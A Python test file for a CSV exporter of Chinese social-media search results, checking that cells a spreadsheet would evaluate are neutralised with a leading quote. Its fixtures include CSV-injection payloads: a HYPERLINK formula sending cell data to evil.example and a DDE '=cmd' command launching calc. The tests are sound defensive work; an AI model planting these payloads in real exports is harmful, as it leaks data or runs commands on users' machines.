"""The CSV writer of search results, over a real SQLite store and Tantivy index."""

from __future__ import annotations

import csv
import io

import pytest

from core.schema import Tags, make_post
from core.store import Store
from desk.export import COLUMNS, export_csv, neutralise
from indexes.embedded import EmbeddedIndex
from indexes.indexer import index_pending
from indexes.query import SearchQuery

TEXTS = {  # platform id -> text, in time order
    "f1": '=HYPERLINK("http://evil.example/?"&A1,"停电详情")',
    "f2": "+86 停电热线",
    "f3": "-2+3 停电",
    "f4": "@SUM(1,1) 停电",
    "f5": "\t=1+1 停电",
    "f6": "\r=1 停电",
    "plain": '东湖区停电了😭\n第二行，"引号"，<b>不是标签</b> & 完',
}


@pytest.fixture
def indexed(tmp_path):
    store = Store(f"sqlite:///{tmp_path / 'db.sqlite'}")
    store.upsert_posts([
        make_post(platform="weibo", platform_id=pid, text=text, author_name="=cmd|' /C calc'!A0" if pid == "f1" else "市民",
                  created_at=f"2024-07-25T0{n}:30:00", likes_count=n, url=f"https://weibo.com/{pid}")
        for n, (pid, text) in enumerate(TEXTS.items())
    ])
    store.save_tags([Tags(7, 0.25, "anxiety", 0.8, ["outage_report"], "test", emotion="fear",
                          places=["420000", "420100"], polarity="negative")])
    index = EmbeddedIndex(tmp_path / "index")
    assert index_pending(store, index) == len(TEXTS)
    return store, index


def rows(chunks) -> list[list[str]]:
    text = "".join(chunks)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\0=1"])  # ASVS 5.0 1.2.10 adds NUL
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["停电", "a=b", "1-2", "", " =1", "'=1"])
def test_other_cells_are_left_as_they_are(cell):
    assert neutralise(cell) == cell


def test_every_result_in_order_with_formulas_neutralised_and_text_kept(indexed):
    store, index = indexed
    chunks = list(export_csv(store, index, SearchQuery(text="停电", sort="newest", per_page=1, page=2)))
    assert chunks[0].encode("utf-8").startswith(b"\xef\xbb\xbf") and "\r\n" in chunks[0]
    header, *body = rows(chunks)
    assert header == list(COLUMNS)
    by_id = {row[COLUMNS.index("platform_id")]: dict(zip(COLUMNS, row)) for row in body}
    assert [row[COLUMNS.index("platform_id")] for row in body] == ["plain", "f6", "f5", "f4", "f3", "f2", "f1"]
    for pid in ("f1", "f2", "f3", "f4", "f5", "f6"):
        assert by_id[pid]["text"] == "'" + TEXTS[pid].lstrip()  # the store trims the blanks around a text
    assert by_id["f1"]["author"] == "'=cmd|' /C calc'!A0"
    plain = by_id["plain"]
    assert plain["text"] == TEXTS["plain"]  # newline, emoji, quotes and HTML as written
    assert plain["time"] == "2024-07-25 06:30:00"  # China time, as the post was given
    assert (plain["sentiment"], plain["emotion"], plain["polarity"], plain["rumor_prob"]) == ("anxiety", "fear",
                                                                                              "negative", "0.250")
    assert plain["place_codes"] == "420000 420100" and plain["places"] and plain["topics"] == "outage_report"
    assert plain["likes"] == "6" and plain["url"] == "https://weibo.com/plain"
    assert by_id["f1"]["sentiment"] == "" and by_id["f1"]["rumor_prob"] == ""  # untagged


def test_the_limit_and_an_empty_result(indexed):
    store, index = indexed
    assert len(rows(export_csv(store, index, SearchQuery(sort="engagement"), limit=3))) == 1 + 3
    assert rows(export_csv(store, index, SearchQuery(text="不存在的词"))) == [list(COLUMNS)]


def test_a_homes_own_places_are_named(indexed, tmp_path):
    """A code of the home's own places file (the demo's fictional districts) gets its name."""
    store, index = indexed
    store.save_tags([Tags(7, 0.25, "anxiety", 0.8, [], "test", places=["460000", "460502"])])
    index_pending(store, index)
    own = tmp_path / "places.csv"
    own.write_text("adcode,name\n460500,滨海市\n460502,东湖区\n", encoding="utf-8")
    [plain] = [row for row in rows(export_csv(store, index, SearchQuery(text="东湖区"), own_places=own))[1:]]
    assert plain[COLUMNS.index("places")] == "海南省 东湖区"
    [plain] = rows(export_csv(store, index, SearchQuery(text="东湖区")))[1:]
    assert plain[COLUMNS.index("places")] == "海南省 460502"  # without the file: the code, as it is
